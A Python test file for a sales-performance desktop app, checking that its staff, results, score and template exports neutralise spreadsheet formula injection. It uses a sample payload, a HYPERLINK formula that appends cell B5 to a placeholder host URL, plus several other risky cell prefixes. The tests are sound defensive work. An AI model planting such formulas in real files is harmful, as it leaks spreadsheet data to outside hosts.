"""Formula injection: a name typed as a formula is written into every export as the text it is.

OWASP "CSV injection": a staff name ``=HYPERLINK("http://x"&B5,"点我")`` must not become a live
formula in the staff export, the results export, ``score --format xlsx`` or the blank templates
that carry the officer's own words. Each file is read back with openpyxl: no cell is a formula
(or an error value), the text is kept, and numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import ast
import dataclasses
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from salesperf_desktop.cli import main as cli_main
from salesperf_desktop.domain.periods import Period
from salesperf_desktop.services.progress import run_to_end
from salesperf_desktop.services.staff import list_staff, save_staff, staff_form
from salesperf_desktop.services.xlsx_io import csv_cell, save_workbook

INJECTION = '=HYPERLINK("http://x"&B5,"点我")'
DASH_NAME = "-张三"
PACKAGE = Path(__file__).resolve().parents[2] / "salesperf_desktop"


def _cells(path: Path):
    wb = load_workbook(path)  # formulas as formulas: data_only would hide them
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_no_formula(path: Path, *texts: str) -> list:
    cells = list(_cells(path))
    live = [(c.coordinate, c.value) for c in cells if c.data_type in ("f", "e")]
    assert live == [], f"{path.name}: formulas or error values written: {live}"
    values = [c.value for c in cells]
    for text in texts:
        assert text in values, f"{path.name}: {text!r} not kept as text"
    return cells


def _rename(ctx, employee_no: str, name: str) -> None:
    person = next(p for p in list_staff(ctx) if p.employee_no == employee_no)
    current = staff_form(ctx, person.id).current
    save_staff(ctx, dataclasses.replace(current, name=name), person.id)


def test_the_staff_export_writes_a_formula_like_name_as_text(demo_ctx, tmp_path):
    from salesperf_desktop.services.staff_io import export_staff

    _rename(demo_ctx, "E003", INJECTION)
    _rename(demo_ctx, "E004", DASH_NAME)
    path = tmp_path / "staff.xlsx"
    export_staff(demo_ctx, path, "zh_CN")
    cells = _assert_no_formula(path, INJECTION, DASH_NAME)
    assert next(c for c in cells if c.value == INJECTION).data_type == "s"


def test_the_results_export_writes_names_as_text_and_numbers_as_numbers(demo_ctx, tmp_path):
    from salesperf_desktop.services.results_export import export_period_results

    _rename(demo_ctx, "E003", INJECTION)
    _rename(demo_ctx, "E004", DASH_NAME)
    path = tmp_path / "results.xlsx"
    run_to_end(export_period_results(demo_ctx, Period.parse("2026-10"), path, lang="zh_CN"))
    cells = _assert_no_formula(path, INJECTION, DASH_NAME)
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers and all(isinstance(v, int | float) for v in numbers)
    # the grade distribution's deviations go below zero: still numbers, not text
    assert any(v < 0 for v in numbers)


def test_score_as_a_workbook_writes_a_formula_like_name_as_text(demo_ctx, db_path, tmp_path):
    _rename(demo_ctx, "E003", INJECTION)
    demo_ctx.close()
    out = tmp_path / "score.xlsx"
    args = ["--db", str(db_path), "score", "2026-10", "--format", "xlsx", "-o", str(out)]
    assert cli_main(args) == 0
    _assert_no_formula(out, INJECTION)


def test_score_as_csv_quotes_a_formula_like_name_and_keeps_numbers(demo_ctx, db_path, tmp_path):
    import csv

    _rename(demo_ctx, "E003", INJECTION)
    _rename(demo_ctx, "E004", DASH_NAME)
    demo_ctx.close()
    out = tmp_path / "score.csv"
    args = ["--db", str(db_path), "score", "2026-10", "--format", "csv", "-o", str(out)]
    assert cli_main(args) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["employee_no"]: r["name"] for r in rows}
    assert names["E003"] == "'" + INJECTION and names["E004"] == "'" + DASH_NAME
    assert all(float(r["total"]) >= 0 for r in rows)  # numbers are written as numbers


def test_the_metrics_template_writes_an_indicator_named_like_a_formula_as_text(ctx, tmp_path):
    from salesperf_desktop.services.metrics_import import write_template
    from salesperf_desktop.services.templates import add_indicator

    add_indicator(
        ctx,
        {
            "code": "listing",
            "dimension": "results",
            "measure": "count",
            "name": {"zh_CN": INJECTION},
            "default_rule": {"kind": "linear", "cap": 1.0},
            "default_weight": 10,
        },
    )
    path = write_template(ctx, tmp_path / "metrics.xlsx", "zh_CN")
    _assert_no_formula(path, INJECTION)


@pytest.mark.parametrize("text", [INJECTION, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "#N/A"])
def test_save_workbook_keeps_every_risky_text_as_text(tmp_path, text):
    wb = Workbook()
    wb.active.append([text, -3.5, 7, "普通"])
    path = tmp_path / "t.xlsx"
    save_workbook(wb, path)
    a, b, c, d = next(load_workbook(path).active.iter_rows())
    # XML reads a carriage return back as a line feed; the text is otherwise as written
    assert (a.value, a.data_type) == (text.replace("\r", "\n"), "s")
    assert (b.value, b.data_type, c.value, d.value) == (-3.5, "n", 7, "普通")


def test_csv_values_that_could_run_as_formulas_get_a_leading_quote():
    assert csv_cell(INJECTION) == "'" + INJECTION
    assert [csv_cell(t) for t in ("+1", "-张三", "@x", "\tx", "\rx")] == [
        "'+1",
        "'-张三",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in (-3.5, 0, "张三", "", None)] == [-3.5, 0, "张三", "", None]


def test_every_workbook_is_saved_through_save_workbook():
    """A new export (a column added, a new sheet) cannot bypass the guard: no module but
    xlsx_io calls a workbook's save()."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "xlsx_io.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "save"
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id in {"wb", "workbook", "book"}
            ):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert offenders == []
